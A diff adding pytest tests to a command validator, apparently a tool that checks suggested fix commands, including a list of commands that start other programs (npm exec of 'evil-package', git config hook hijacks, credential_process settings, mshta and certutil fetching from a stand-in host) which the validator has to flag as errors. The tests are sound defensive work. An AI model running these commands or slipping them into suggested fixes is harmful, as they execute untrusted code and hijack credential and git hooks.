@@ -389,3 +389,47 @@ def test_a_template_may_use_only_its_own_targets_filters(tmp_path: Path) -> None
     )
     assert result.envelope()["error"]["code"] == "TEMPLATE_INVALID"
     assert "md_text" in result.envelope()["error"]["message"]
+
+
+RUN_OTHER_PROGRAMS = [
+    "npm exec evil-package",
+    "pnpm dlx evil-package",
+    "uv run --with evil-package tool",
+    "go run example.com/evil@latest",
+    "pip install evil-package",
+    "docker run evil-image",
+    "podman run evil-image",
+    "git submodule foreach make",
+    "git bisect run make",
+    "git rebase -x make main",
+    "rsync -e ssh src dst",
+    "tar -I zstd -xf a.tar",
+    "git config core.fsmonitor evil",
+    "git config core.sshCommand evil",
+    "git config core.hooksPath hooks",
+    "git -C /tmp/evil status",
+    "kubectl config set-credentials me --exec-command=evil",
+    "aws configure set credential_process evil",
+    "kubectl exec web -- sh",
+    "mshta http://x",
+    "rundll32 evil.dll,entry",
+    "certutil -urlcache -f http://x evil.exe",
+]
+
+
+@pytest.mark.parametrize("line", RUN_OTHER_PROGRAMS)
+def test_commands_that_start_another_program_are_errors(line: str) -> None:
+    # finding 9: each of these validated as an idempotent fix command
+    from errgen.validation.commands import judge
+    from errgen.validation.registry import RULES
+
+    found = judge(line, frozenset(line.split()[:1]), "idempotent")
+    assert any(RULES[rule].severity == "error" for rule, _, _ in found), found
+
+
+def test_an_outage_labelled_idempotent_is_reported() -> None:
+    from errgen.validation.commands import judge
+
+    assert [r for r, _, _ in judge("systemctl reboot", frozenset(["systemctl"]))] == [
+        "command-effect-understated"
+    ]
